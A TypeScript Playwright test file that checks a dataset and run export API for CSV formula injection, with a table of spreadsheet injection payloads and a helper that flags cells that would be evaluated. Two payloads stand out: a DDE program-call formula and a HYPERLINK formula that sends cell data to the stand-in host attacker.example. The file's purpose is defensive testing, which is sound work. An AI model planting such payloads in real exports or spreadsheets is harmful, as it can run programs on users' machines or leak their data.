import { expect } from '@playwright/test';
import { createdDatasetSchema } from '#lib/api/datasets-schema.ts';
import { type AttackTable, eachOf } from './attack.ts';

const FORMULAS: [string, string][] = [
  ['a formula', '=1+1'],
  ['a plus sign', '+1+1'],
  ['a minus sign', '-1+1'],
  ['an at sign', '@SUM(1,1)'],
  ['a tab before a formula', '\t=1+1'],
  ['a carriage return before a formula', '\r=1+1'],
  ['a line feed before a formula', '\n=1+1'],
  ['a full-width formula', '＝1+1'],
  ['a program call', `=cmd|' /C calc'!A0`],
  ['a link with data in its URL', '=HYPERLINK("https://attacker.example/?"&A1,"look")'],
];

/** Returns the CSV cells that a spreadsheet would evaluate as formulas. Plain numbers are not formulas. */
function formulaCells(csv: string): string[] {
  const cells = [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
    cell.replace(/^"/, ''),
  );
  return cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

export const CSV_FORMULAS: AttackTable = {
  kind: 'formulas in CSV',
  attacks: [
    ...eachOf(FORMULAS, async ({ owner }, formula) => {
      const cases = [{ input: `${formula} `, reference: formula, tags: [formula], metadata: { [formula]: formula } }];
      const { id } = await owner.read(createdDatasetSchema, 'POST', '/api/v1/datasets', { name: formula, cases });
      const { status, text } = await owner.call('GET', `/api/v1/datasets/${id}/export?format=csv`);
      expect(status).toBe(200);
      expect(text).toContain(formula.trim().replaceAll('"', '""'));
      expect(formulaCells(text)).toEqual([]);
    }),
    {
      name: 'outputs and names of runs',
      attempt: async ({ owner, hostile }) => {
        const { experimentId } = await hostile();
        for (const format of ['runs', 'versions']) {
          const { status, text } = await owner.call(
            'GET',
            `/api/v1/export/runs?experimentId=${experimentId}&format=${format}`,
          );
          expect(status).toBe(200);
          expect(text).toContain('=1+1');
          expect(formulaCells(text)).toEqual([]);
        }
      },
    },
  ],
};
